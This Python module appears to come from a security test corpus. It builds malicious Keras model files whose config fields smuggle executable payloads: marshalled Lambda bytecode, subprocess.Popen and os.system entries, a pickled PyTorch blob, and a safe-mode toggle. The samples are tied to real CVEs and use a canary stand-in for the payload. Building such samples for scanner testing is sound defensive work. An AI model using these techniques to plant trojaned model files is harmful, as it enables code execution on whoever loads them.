"""Malicious Keras files: the v3 ``.keras`` archive and the legacy HDF5 ``.h5`` model.

Keras Lambda layers hold marshalled bytecode, TorchModuleWrapper holds a ``torch.save`` blob, and
older Keras versions resolved any ``module``/``class_name`` pair named in ``config.json``.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import types
from typing import Any

from ._registry import Canary, sample
from ._zipbytes import write_zip

_KERAS_META = json.dumps({"keras_version": "3.15.1", "date_saved": "2025-06-01@12:00:00"}).encode()
_DTYPE = {
    "module": "keras",
    "class_name": "DTypePolicy",
    "config": {"name": "float32"},
    "registered_name": None,
}


def _lambda_code(c: Canary) -> str:
    # marshal.dumps only serialises the code object; nothing is executed here.
    outer = compile(f"lambda x: ({c.py}, x)[1]", "<keras-lambda>", "eval")
    code = next(k for k in outer.co_consts if isinstance(k, types.CodeType))
    return base64.b64encode(marshal.dumps(code)).decode()


def _input_layer() -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 3], "dtype": "float32", "sparse": False, "name": "input_layer"},
        "registered_name": None,
        "name": "input_layer",
        "inbound_nodes": [],
    }


def _lambda_layer(c: Canary, name: str = "lambda") -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": name,
            "trainable": True,
            "dtype": _DTYPE,
            "function": {
                "class_name": "__lambda__",
                "config": {"code": _lambda_code(c), "defaults": None, "closure": None},
            },
            "arguments": {},
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 3]},
        "name": name,
        "inbound_nodes": [
            {
                "args": [
                    {
                        "class_name": "__keras_tensor__",
                        "config": {
                            "shape": [None, 3],
                            "dtype": "float32",
                            "keras_history": ["input_layer", 0, 0],
                        },
                    }
                ],
                "kwargs": {"mask": None},
            }
        ],
    }


def _functional(layers: list[dict[str, Any]], output: str) -> dict[str, Any]:
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "functional",
            "trainable": True,
            "layers": layers,
            "input_layers": ["input_layer", 0, 0],
            "output_layers": [output, 0, 0],
        },
        "registered_name": "Functional",
        "build_config": {"input_shape": None},
        "compile_config": {},
    }


def _weights_h5(layer_names: list[str], model: str) -> bytes:
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        for name in layer_names:
            f.create_group(f"layers/{name}/vars").attrs["name"] = name
        f.create_group("vars").attrs["name"] = model
    return buf.getvalue()


def _keras_file(config: dict[str, Any], layer_names: list[str], model: str = "functional") -> bytes:
    return write_zip(
        [
            ("metadata.json", _KERAS_META),
            ("config.json", json.dumps(config).encode()),
            ("model.weights.h5", _weights_h5(layer_names, model)),
        ]
    )


_KERAS_LIVE = (
    " Live under keras.saving.load_model(..., safe_mode=False) with the torch backend; safe_mode=True"
)


@sample(
    "keras_lambda_marshal",
    technique="keras:lambda-bytecode",
    container="keras-v3",
    filename="classifier.keras",
    loader="keras",
    requires=("keras", "h5py"),
    advisory="CVE-2024-3660",
    description="Functional model whose Lambda layer carries base64 marshalled bytecode that creates the "
    "canary when Keras traces the layer during load." + _KERAS_LIVE + " refuses the Lambda.",
)
def _keras_lambda(c: Canary) -> bytes:
    config = _functional([_input_layer(), _lambda_layer(c)], "lambda")
    return _keras_file(config, ["input_layer", "lambda"])


@sample(
    "keras_enable_unsafe_then_lambda",
    technique="keras:safe-mode-toggle",
    container="keras-v3",
    filename="bert_head.keras",
    loader="none",
    requires=("keras", "h5py"),
    description="The first layer entry names keras.config.enable_unsafe_deserialization (the safe-mode "
    "bypass shape of the Keras 3.9-3.10 advisories: a function inside an allowed keras module resolved "
    "from config.json and called), followed by a bytecode Lambda. Keras >= 3.11 refuses non-modeling "
    "functions ('not a modeling function') before reaching the Lambda, so no installed loader runs it; "
    "static-only sample.",
)
def _keras_toggle(c: Canary) -> bytes:
    toggle = {
        "module": "keras.config",
        "class_name": "enable_unsafe_deserialization",
        "config": {},
        "registered_name": "enable_unsafe_deserialization",
        "name": "enable_unsafe_deserialization",
        "inbound_nodes": [],
    }
    config = _functional([toggle, _input_layer(), _lambda_layer(c)], "lambda")
    return _keras_file(config, ["input_layer", "lambda"])


@sample(
    "keras_module_subprocess",
    technique="keras:arbitrary-module",
    container="keras-v3",
    filename="resnet_block.keras",
    loader="none",
    advisory="GHSA-48g7-3x6r-xfhp",
    description="A layer entry whose module/class_name are subprocess/Popen with the argv as config: "
    "Keras 3.0-3.8 imported any module named in config.json and instantiated it (CVE-2025-1550). "
    "Keras >= 3.9 only resolves keras modules, so no installed loader runs it; static-only sample.",
)
def _keras_module(c: Canary) -> bytes:
    evil = {
        "module": "subprocess",
        "class_name": "Popen",
        "config": {"args": c.argv},
        "registered_name": "Popen",
        "name": "popen",
        "inbound_nodes": _lambda_layer(c)["inbound_nodes"],
    }
    return _keras_file(_functional([_input_layer(), evil], "popen"), ["input_layer", "popen"])


@sample(
    "keras_activation_os_system",
    technique="keras:arbitrary-module",
    container="keras-v3",
    filename="mlp_head.keras",
    loader="none",
    advisory="GHSA-48g7-3x6r-xfhp",
    description="A Dense layer whose activation is the serialized function os.system "
    "({'module': 'os', 'class_name': 'system'}); Keras 3.0-3.8 resolved any module:function pair "
    "from config.json (CVE-2025-1550). Keras >= 3.9 refuses it, so no installed loader runs it; "
    "static-only sample.",
)
def _keras_activation(c: Canary) -> bytes:
    dense = _lambda_layer(c, "dense")
    dense["class_name"] = "Dense"
    dense["config"] = {
        "name": "dense",
        "trainable": True,
        "dtype": _DTYPE,
        "units": 3,
        "activation": {"module": "os", "class_name": "system", "config": c.sh, "registered_name": "system"},
        "use_bias": True,
    }
    return _keras_file(_functional([_input_layer(), dense], "dense"), ["input_layer", "dense"])


@sample(
    "keras_torch_module_wrapper",
    technique="keras:torch-module-wrapper",
    container="keras-v3",
    filename="hybrid_model.keras",
    loader="keras",
    requires=("keras", "h5py", "torch"),
    advisory="GHSA-v2w2-w228-c444",
    description="Sequential model with a TorchModuleWrapper layer whose 'module' field is base64 of a "
    "PyTorch zip; from_config passes it to torch.load(weights_only=False) and its data.pkl runs the "
    "payload." + _KERAS_LIVE + " refuses it.",
)
def _keras_tmw(c: Canary) -> bytes:
    from ._trojans_torch import torch_zip

    wrapper = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "config": {
            "name": "torch_module_wrapper",
            "trainable": True,
            "dtype": _DTYPE,
            "module": base64.b64encode(torch_zip(c)).decode(),
            "output_shape": [None, 2],
        },
        "registered_name": None,
    }
    input_layer = {k: v for k, v in _input_layer().items() if k not in ("name", "inbound_nodes")}
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "layers": [input_layer, wrapper]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 3]},
        "compile_config": {},
    }
    return _keras_file(config, ["input_layer", "torch_module_wrapper"], "sequential")


@sample(
    "keras_h5_lambda",
    technique="keras:lambda-bytecode-h5",
    container="keras-h5",
    filename="legacy_model.h5",
    loader="keras",
    requires=("keras", "h5py"),
    advisory="CVE-2025-9905",
    description="Legacy HDF5 model: the root attribute model_config holds a Functional config with a "
    "bytecode Lambda. Keras < 3.11.3 ignored safe_mode for .h5 files." + _KERAS_LIVE + " refuses it.",
)
def _keras_h5(c: Canary) -> bytes:
    import h5py

    config = _functional([_input_layer(), _lambda_layer(c)], "lambda")
    legacy = {"class_name": config["class_name"], "config": config["config"]}
    for layer in legacy["config"]["layers"]:
        layer.pop("module", None)
        layer.pop("registered_name", None)
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["model_config"] = json.dumps(legacy)
        weights = f.create_group("model_weights")
        weights.attrs["layer_names"] = [b"input_layer", b"lambda"]
        weights.attrs["backend"] = "tensorflow"
        weights.attrs["keras_version"] = "2.15.0"
        for name in ("input_layer", "lambda"):
            weights.create_group(name).attrs["weight_names"] = []
    return buf.getvalue()
